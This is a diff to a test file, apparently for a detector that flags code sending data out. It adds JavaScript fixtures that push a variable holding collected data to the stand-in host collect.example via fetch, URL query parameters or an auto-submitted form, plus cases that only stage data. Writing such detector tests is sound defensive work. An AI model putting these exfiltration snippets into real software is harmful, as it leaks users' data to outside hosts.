@@ -16,6 +16,10 @@ const CARRIERS: Readonly<Record<string, string>> = {
   'a thrown object': `try { throw { data: all }; } catch (problem) { ${SEND}problem.data }); }`,
   'a proxy': `const box = new Proxy({ data: all }, {}); ${SEND}box.data });`,
   'characters, each computed': `let out = ''; const text = String(all); for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ 7); ${SEND}out });`,
+  'parameters filled one by one': `const p = new URLSearchParams(); p.set('c', String(all)); ${SEND}p.toString() });`,
+  'parameters within a text': `const p = new URLSearchParams(); p.append('c', String(all)); fetch('https://collect.example/?' + p);`,
+  'an address that was filled': `const u = new URL('https://collect.example/'); u.searchParams.set('c', String(all)); fetch(u.href);`,
+  'a field of a form, set as an attribute': `const form = document.createElement('form'); const field = document.createElement('input'); form.setAttribute('action', 'https://collect.example/'); field.setAttribute('value', String(all)); form.appendChild(field); form.submit();`,
 };
 const DECLARED = `class Base {} class Kept extends Base { constructor(kept) { super(); this.kept = kept; } get data() { return this.kept; } send() { ${SEND}this.kept }); } } const box = { kept: 0, data() { return this.kept; } }; function send(x) { ${SEND}x }); }`;
 
@@ -34,6 +38,14 @@ test.each([
   [
     'thrown elsewhere',
     `try { ready(); } catch (problem) { ${SEND}problem.data }); } function ready() { throw { data: 'x' }; } void all;`,
+  ],
+  [
+    'put into parameters that stay',
+    `const p = new URLSearchParams(); p.set('c', String(all)); const q = new URLSearchParams(); ${SEND}q.toString() });`,
+  ],
+  [
+    'an attribute beside a form',
+    `const form = document.createElement('form'); form.action = 'https://collect.example/'; const box = document.createElement('div'); box.setAttribute('value', String(all)); form.submit();`,
   ],
 ])('does not take for data what is only %s', async (_, body) => {
   expect(await isSent(body)).toBe(false);
